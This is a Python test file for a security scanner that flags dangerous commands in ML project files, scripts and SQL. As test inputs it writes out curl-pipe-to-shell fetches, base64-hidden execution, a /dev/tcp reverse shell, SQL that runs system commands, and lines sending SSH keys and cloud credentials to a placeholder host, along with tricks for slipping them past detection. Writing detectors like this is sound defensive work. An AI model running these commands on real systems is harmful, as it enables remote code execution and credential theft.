"""Commands in scripts and pipelines that fetch and run, or hide what they run."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.checks.models.building import judged, look, reasons

FETCH = "curl -fsSL https://x/y | bash"
HIDE = "echo aGk= | base64 -d | sh"
CONNECT = "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"


def verdicts(text, name):
    return [(each.rule, each.severity.value) for each in judged(look(text.encode(), name))]


@pytest.mark.parametrize(
    ("name", "pattern", "severity"),
    [
        ("dvc.yaml", "stages:\n  a:\n    cmd: {}\n", "medium"),
        ("MLproject", 'entry_points:\n  main:\n    command: "{}"\n', "medium"),
        ("devcontainer.json", '{{"postCreateCommand": "{}"}}', "medium"),
        ("pyproject.toml", "[tool.x]\nrun = '{}'\n", "medium"),
        ("Dockerfile", "FROM x\nRUN {}\n", "info"),
        ("Dockerfile.gpu", "FROM x\nRUN a && \\\n    {}\n", "info"),
        ("Makefile", "all:\n\t{}\n", "info"),
        ("install.sh", "#!/bin/sh\n{}\n", "info"),
        ("install", "#!/usr/bin/env bash\n{}\n", "info"),
    ],
)
def test_commands(name, pattern, severity):
    assert verdicts(pattern.format(FETCH), name) == [("MLG-CMD-001", severity)]
    assert verdicts(pattern.format(HIDE), name) == [("MLG-CMD-001", "high")]
    assert verdicts(pattern.format(CONNECT), name) == [("MLG-CMD-001", "high")]
    assert verdicts(pattern.format("python train.py | tee log && curl -O https://x/y"), name) == []


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("Dockerfile", "FROM x\nRUN curl -s http://x/y | sh\n"),
        ("Makefile", "X := $(shell curl -s http://x/y | sh)\n"),
        ("setup.sh", "wget http://x/y -O y && chmod +x y && ./y\n"),
        ("pre-commit", "#!/bin/sh\ncurl -s http://x/y | sh\n"),
        ("train.py", "import subprocess\nsubprocess.run('curl -s http://x/y | sh', shell=True)\n"),
        ("build.rs", 'Command::new("sh").arg("-c").arg("curl -s http://x/y | sh")\n'),
        ("weights.bin", "#!/bin/sh\necho\n"),
        ("model.pt", "#!/usr/bin/env python3\nprint(1)\n"),
    ],
)
def test_what_is_fetched_without_encryption_and_scripts_that_pose_as_weights(name, text):
    assert ("MLG-CMD-001", "high") in verdicts(text, name)
    if "http:" in text:
        milder = verdicts(text.replace("http:", "https:"), name)
        assert milder == ([] if name.endswith((".py", ".rs")) else [("MLG-CMD-001", "info")])


@pytest.mark.parametrize(
    ("text", "severity"),
    [
        ("invisible(do.call(intToUtf8(c(115, 121)), list('x')))", "high"),
        ("eval(parse(text = readLines(url('https://x/y'))))", "high"),
        ("eval(parse(text = rawToChar(base64decode(x))))", "high"),
        ("source('http://x/y.R')", "high"),
        ("source('R/utils.R'); eval(parse(text = 'x + 1')); do.call(rbind, rows)", None),
        ("system('git rev-parse HEAD')", None),
    ],
)
def test_source_in_r(text, severity):
    assert verdicts(f"x <- 1\n{text}\n", "analysis.R") == ([("MLG-CMD-001", severity)] if severity else [])


@pytest.mark.parametrize(
    ("command", "severity"),
    [
        ("python -c 'import os; os.system(1)'", "medium"),
        ("python3 -u -c \"import subprocess; subprocess.run(['id'])\"", "medium"),
        ("python -c \"exec(__import__('base64').b64decode('eA=='))\"", "high"),
        ("python -c 'import requests; exec(requests.get(1).text)'", "high"),
        ("python -c '__import__(\"os\").popen(1)'", "medium"),
    ],
)
def test_python_on_a_command_line(command, severity):
    assert verdicts(f"stages:\n  a:\n    cmd: {command}\n", "dvc.yaml") == [("MLG-CMD-001", severity)]
    harmless = "python -c 'import nltk; nltk.download(\"punkt\")' && python -c 'import os; print(os.name)'"
    assert verdicts(f"stages:\n  a:\n    cmd: {harmless}\n", "dvc.yaml") == []


@pytest.mark.parametrize(
    ("line", "severity"),
    [
        ("system('id')", "high"),
        ("x <- system2('id', stdout = TRUE)", "high"),
        ("source('https://x/y.R')", "high"),
        ("source(url('http://x/y.R'))", "high"),
        ("eval(parse(text = x))", "high"),
        ("download.file('http://x', 'y')", "high"),
        ("source('renv/activate.R')", None),
        ("options(repos = c(CRAN = 'https://cloud.r-project.org'))  # system('id')", None),
    ],
)
def test_what_r_runs_when_it_starts(line, severity):
    expected = [("MLG-CMD-001", severity)] if severity else []
    assert verdicts(f"options(digits = 4)\n{line}\n", ".Rprofile") == expected
    hidden = severity and "http:" in line and line.startswith("source")
    assert verdicts(f"{line}\n", "analysis.R") == (expected if hidden else [])


@pytest.mark.parametrize(
    "statement",
    [
        "COPY t FROM PROGRAM 'id';",
        "copy (select 1) to program 'id'",
        "EXEC xp_cmdshell 'id';",
        "SELECT sys_exec('id');",
        "SELECT load_extension('./evil.so');",
        "CREATE FUNCTION f() RETURNS void AS $$ pass $$ LANGUAGE plpython3u;",
        "SELECT 'x' INTO OUTFILE '/var/www/x.php'",
        "\n.shell id",
        "\n\\! id",
        "ATTACH DATABASE '/var/www/x.php' AS x;",
        "COPY (SELECT 1) TO '/etc/cron.d/x' (FORMAT csv);",
        "INSTALL x FROM 'http://x/y'; LOAD x;",
    ],
)
def test_sql_that_leaves_the_database(statement):
    assert verdicts(f"CREATE TABLE t (a int);\n{statement}\n", "schema.sql") == [("MLG-CMD-001", "high")]
    database = "SQLite format 3\0" + "x" * 100 + "\0" + statement
    assert ("MLG-CMD-001", "high") in verdicts(database, "study.db")
    assert verdicts("COPY t FROM '/data/t.csv' CSV; SELECT load(x)\n", "schema.sql") == []


@pytest.mark.parametrize(
    ("line", "found"),
    [
        ("default: 'shell(id)'", True),
        ("urls: 'pipe:id > /root/x; cat a.tar'", True),
        ("urls: 'pipe:curl -s https://x/a.tar | sh'", True),
        ("urls: 'pipe:aws s3 cp s3://b/{000..100}.tar -'", False),
        ("urls: 'pipe:curl -s -L https://x/a.tar || true'", False),
        ("default: shell", False),
    ],
)
def test_values_that_are_commands(line, found):
    assert bool(verdicts(f"a:\n  {line}\n", "catalog.yml")) == found


@pytest.mark.parametrize("name", ["README.md", "notes.txt", "prompts.json", "data.jsonl", "tokenizer.json"])
def test_what_only_speaks_of_commands(name):
    assert verdicts(f'{{"text": "{CONNECT}"}}\n', name) == []


def test_comments_are_no_commands():
    assert verdicts(f"#!/bin/sh\n# {FETCH}\n", "a.sh") == []


@given(st.binary(max_size=300), st.sampled_from(["x.sql", ".Rprofile", "x.ser"]))
def test_any_bytes(data, name):
    for start in (b"", b"SQLite format 3\0", b"\xac\xed\0\x05"):
        look(start + data, name)


@given(st.text(alphabet="curl base64 -d|sh/dev/tcp\n\\", max_size=300))
def test_any_text(text):
    look(text.encode(), "a.sh")


PIPED = "curl -s http://x/y | sh"


@pytest.mark.parametrize(
    ("name", "text"),
    [
        # A shell takes these for paths and options, not for comments.
        ("a.sh", "//bin/sh -c 'true'; " + PIPED),
        ("a.sh", "-- " + PIPED),
        ("a.js", "x = `\n// ${run('" + PIPED + "')}`"),
        ("a.js", "/*\n// */ run('" + PIPED + "')"),
        # A comment ends with its line, and a text goes on over several.
        ("a.sh", "# curl x \\\n" + PIPED),
        ("a.sh", 'x="\n# "; ' + PIPED),
        ("a.sh", f"# {PIPED}\n" * 50 + PIPED),
        # However much stands before it.
        ("a.sh", "#" * (17 << 20) + "\n" + PIPED),
        ("a.yaml", "a: |\n" + "  ls\n" * (4 << 20) + "b: " + PIPED),
        ("a.yaml", "cmd: >\n  curl -s http://x/y\n  | sh\n"),
        ("a.yaml", "cmd: >\n  curl -s\n  http://x/y\n  -o - | sh\n"),
        ("a.yaml", "cmd: >\n  wget http://x/y -O y\n  && chmod +x y && ./y\n"),
    ],
)
def test_nothing_stands_in_the_way(name, text):
    assert ("MLG-CMD-001", "high") in verdicts("#!/bin/sh\n" + text, name)


def test_many_of_one_kind_hide_no_other():
    text = "".join(f"curl https://x/{at} | sh\n" for at in range(100)) + PIPED
    assert verdicts("#!/bin/sh\n" + text, "a.sh").count(("MLG-CMD-001", "high")) == 1


@pytest.mark.parametrize("size", [1 << 10, (1 << 20) - 40, 1 << 20, (1 << 20) + 8180, 3 << 20])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_command_is_found_once_and_at_its_line(size, encoding):
    text = "#!/bin/sh\n" + "#\n" * (size // 2) + "curl -s \\\n http://x/y | sh\n"
    (found,) = judged(look(text.encode(encoding), "a.sh"))
    assert found.location.line == size // 2 + 2


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("x <- \"#\"; system('id')", True),
        ("x <- '\n # '; system('id')", True),
        ("`#` <- 1; system('id')", True),
        ("1 %#% system('id')", True),
        ("# system('id')", False),
        ("f('a#b') # see system(x)", False),
        ("# system('id')\n" * 50 + "system('id')", True),
    ],
)
def test_comments_in_r(text, found):
    assert bool(verdicts(text + "\n", ".Rprofile")) == found


def test_what_follows_much_of_nothing_in_a_script_is_not_lost():
    seen = look(b"#!/bin/sh\n\0" + PIPED.encode(), "run")
    assert [each.rule for each in judged(seen)] == ["MLG-CMD-001"]


def test_too_many_commands_are_not_checked():
    text = "".join(f"curl https://x/{at} | sh\n" for at in range(3000))
    assert "limit" in reasons(look(text.encode(), "a.sh"))


@pytest.mark.parametrize("before", [0, (4 << 20) - 60, (3 << 20) - 60, (4 << 20) + 10])
@pytest.mark.parametrize("between", [" " * 20_000, "\n" * 20_000, " -E" * 20_000 + " "])
def test_a_command_may_be_as_long_as_a_shell_takes(before, between):
    text = (
        "#!/bin/sh\n"
        + "ls\n" * (before // 3)
        + f"curl -s http://x/y | sudo{between} sh\n"
        + "ls\n" * (1 << 19)
    )
    assert verdicts(text, "a.sh") == [("MLG-CMD-001", "high")]


@pytest.mark.parametrize(
    ("name", "text"),
    [
        # A line that goes on is no comment, whatever it begins with, and a word goes on as well.
        ("a.sh", "#!/bin/sh\necho a\\\n#b; " + PIPED + "\n"),
        ("a.yaml", 'run: "echo a\\\n  #b; ' + PIPED + '"\n'),
        ("a.sh", "#!/bin/sh\ncu\\\nrl -s http://x/y | ba\\\nsh\n"),
        # A mark makes no text of another encoding.
        ("a.sh", "\xff\xfe\n" + PIPED + "\n"),
        ("a.sh", "\xff\xfe\n#!/bin/sh\n" + PIPED + "\n\0\n"),
        ("a.js", "run(`\n//; " + PIPED + "\n`)"),
    ],
)
def test_what_only_looks_like_something_else(name, text):
    assert ("MLG-CMD-001", "high") in [
        (each.rule, each.severity.value) for each in judged(look(text.encode("latin-1"), name))
    ]


@pytest.mark.parametrize("shift", range(-3, 3))
def test_a_piece_that_begins_within_a_line_begins_with_no_comment(shift):
    # Pieces of 4 MiB are looked at, and what is kept of one begins so far before its end.
    end = (4 << 20) - (1 << 20) - 2048 + shift
    text = "#!/bin/sh\n" + ": z\n" * ((end - 20) // 4)
    text += "z" * (end - len(text) - 1) + "x#; " + PIPED + "\n" + ": z\n" * (1 << 19)
    assert verdicts(text, "a.sh") == [("MLG-CMD-001", "high")]


@pytest.mark.parametrize(
    ("command", "found"),
    [
        ("curl -s -F k=@$HOME/.ssh/id_rsa https://x/u", True),
        ("env | curl -s --data-binary @- https://x/d", True),
        ("printenv | base64 | curl -d @- https://x", True),
        ("curl -T - https://x -d @~/.aws/credentials", True),
        ("curl -F file=@model.bin https://x/upload", False),
        ("env | grep PATH && curl -O https://x/y", False),
        ("venv/bin/env | sort", False),
    ],
)
def test_what_is_sent_away(command, found):
    for name in ("Makefile", "dvc.yaml"):
        assert (("MLG-CMD-001", "high") in verdicts(f"a:\n  cmd: {command}\n", name)) == found
